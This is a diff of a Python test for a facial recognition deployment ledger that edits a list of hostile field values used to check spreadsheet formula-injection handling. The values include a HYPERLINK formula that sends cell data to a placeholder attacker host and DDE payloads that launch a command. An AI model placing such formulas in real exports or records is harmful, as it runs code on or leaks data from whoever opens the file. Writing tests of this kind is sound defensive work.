@@ -21,6 +21,7 @@ from lfr_ledger.api.demo.sample_deployment import (
     AUTHORITY,
     COMPILER,
     OPERATOR,
+    SIGNAGE,
     WINDOW_START,
     proposed,
     subject,
@@ -45,27 +46,24 @@ HOSTILE = {
     "location": '=HYPERLINK("http://evil.example/?"&A1,"Gold Street")',
     "town": "+1+cmd|' /C calc'!A0",
     "use_case": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "controlling_force": "-2+3+cmd|' /C calc'!A0",
-    "equipment_owner_force": "=1+1",
 }
+# The forces are codes from the policy's closed register now: no formula can be given for them.
 
 
 def ran_hostile_deployment(ledger: CaseLedger, clock: Clock) -> None:
-    """A deployment live 10:00-11:00 whose location, town, use case and forces are formulas."""
+    """A deployment live 10:00-11:00 whose location, town and use case are formulas."""
     clock.now = WINDOW_START - timedelta(hours=2)
     deployment = proposed(
         ledger,
         location=Location(HOSTILE["location"], HOSTILE["town"], "town_centre"),
         purpose=HOSTILE["use_case"],
-        controlling_force=HOSTILE["controlling_force"],
-        equipment_owner_force=HOSTILE["equipment_owner_force"],
-        mutual_aid_agreement="MA-1",
         public_notice=PublicNotice("signage", WINDOW_START - timedelta(days=1)),
     )
     ledger.authorise_deployment(AO, deployment, authority_ref="AUTH-1", **AUTHORITY)
     ledger.enrol(COMPILER, deployment, subject(1))
     ledger.review_watchlist(AO, deployment, confirmed_count=1, not_excessive=True)
     clock.now = WINDOW_START
+    ledger.confirm_signage(OPERATOR, deployment, **SIGNAGE)
     ledger.start_deployment(OPERATOR, deployment)
     clock.now = WINDOW_START + timedelta(hours=1)
     ledger.end_deployment(OPERATOR, deployment)
